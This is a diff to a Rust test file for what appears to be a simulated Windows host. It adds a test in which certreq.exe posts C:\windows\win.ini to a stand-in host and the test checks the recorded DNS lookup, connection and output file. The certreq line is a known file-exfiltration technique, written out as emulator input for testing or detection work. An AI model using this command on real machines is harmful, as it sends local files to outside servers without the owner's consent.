@@ -91,6 +91,20 @@ fn programs_are_found_at_their_usual_places() {
 }
 
 #[test]
+fn certreq_posts_a_file_and_keeps_the_answer() {
+    let mut host = Host::new();
+    host.run(r"certreq.exe -Post -config https://files.example c:\windows\win.ini out.txt");
+    assert_eq!(
+        host.changes(),
+        [
+            "certreq.exe: dns files.example",
+            "certreq.exe: connect 443",
+            r"certreq.exe: Created C:\Users\avery\out.txt",
+        ]
+    );
+}
+
+#[test]
 fn a_bare_name_is_found_whatever_the_folder_is_called() {
     let mut host = Host::new();
     host.shell.directory = r"C:\ProgramData\Tool\4.18*".to_owned();
